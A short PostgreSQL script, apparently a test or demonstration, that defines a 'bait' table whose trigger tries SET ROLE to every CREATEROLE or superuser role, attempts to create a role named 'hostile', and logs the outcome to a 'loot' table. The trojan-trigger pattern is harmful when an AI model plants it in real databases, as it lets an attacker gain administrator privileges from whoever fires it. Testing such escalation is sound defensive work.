-- A trigger that tries to become each role with CREATEROLE or SUPERUSER, and a row that fires it.
CREATE TABLE public.bait (id int);
CREATE TABLE public.loot (who text, outcome text);
CREATE FUNCTION public.grab() RETURNS trigger LANGUAGE plpgsql AS $$
DECLARE
    power text;
    outcome text := 'it worked';
BEGIN
    FOR power IN SELECT rolname FROM pg_roles WHERE rolcreaterole OR rolsuper LOOP
        BEGIN
            EXECUTE format('SET ROLE %I', power);
            CREATE ROLE hostile;
        EXCEPTION WHEN OTHERS THEN
            outcome := SQLSTATE;
        END;
    END LOOP;
    INSERT INTO public.loot VALUES (session_user, outcome);
    RETURN NEW;
END
$$;
CREATE TRIGGER grab BEFORE INSERT ON public.bait FOR EACH ROW EXECUTE FUNCTION public.grab();
INSERT INTO public.bait VALUES (1);
